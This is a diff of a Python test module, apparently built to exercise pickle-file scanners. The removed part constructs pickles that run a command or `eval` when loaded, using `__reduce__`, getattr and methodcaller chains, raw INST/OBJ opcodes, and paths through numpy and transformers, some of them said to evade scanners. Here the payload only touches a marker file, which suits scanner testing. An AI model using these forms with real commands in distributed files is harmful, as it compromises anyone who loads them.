@@ -1,6 +1,5 @@
 """Pickles that run something: families that scanners list, those that got past them, and every way to write one."""
 
-import pickle
 import struct
 from collections.abc import Callable, Mapping
 
@@ -70,47 +69,3 @@ FORMS: Mapping[str, Callable[[str, str], bytes]] = {
     "as an argument": lambda m, n: b"\x80\x02ctorch\nSize\nc" + _line(m, n) + b")R\x85\x85R.",
 }  # fmt: skip
 """Every way to write the lookup of a name, and what may stand around it."""
-
-
-class Calls:
-    """An object whose pickle calls ``function`` with ``arguments``."""
-
-    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
-        self.function, self.arguments = function, arguments
-
-    def __call__(self) -> None:
-        """Never: pickle asks only whether it could be."""
-
-    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
-        return self.function, self.arguments
-
-
-def live(mark: str) -> Mapping[str, bytes]:
-    """Pickles that make the file ``mark`` when they are loaded, each in another way."""
-    import functools
-    import importlib
-    import operator
-    import os
-
-    command, statement = f"touch {mark}", f"open({mark!r}, 'w').close()"
-    imported = Calls(importlib.import_module, "os")
-    objects: Mapping[str, object] = {
-        "os.system": Calls(os.system, command),
-        "eval": Calls(eval, statement),
-        "getattr chain": Calls(Calls(getattr, imported, "system"), command),
-        "methodcaller": Calls(Calls(operator.methodcaller, "system", command), imported),
-        "partial": Calls(functools.partial(os.system, command)),
-    }
-    by_hand = {
-        "INST": f"(S'{command}'\nios\nsystem\n.".encode(),
-        "OBJ": f"(cos\nsystem\nS'{command}'\no.".encode(),
-        "builtins dict of numpy": (
-            b"\x80\x04" + _short("builtins") + _short("dict.get") + b"\x93" + _short("numpy") + _short("__builtins__")
-            + b"\x93" + _short("eval") + b"\x86R" + _short(statement) + b"\x85R."
-        ),
-        "dotted name": (
-            b"\x80\x04" + _short("transformers.training_args") + _short("os.system") + b"\x93" + _short(command)
-            + b"\x85R."
-        ),
-    }  # fmt: skip
-    return {name: pickle.dumps(one, 2) for name, one in objects.items()} | by_hand
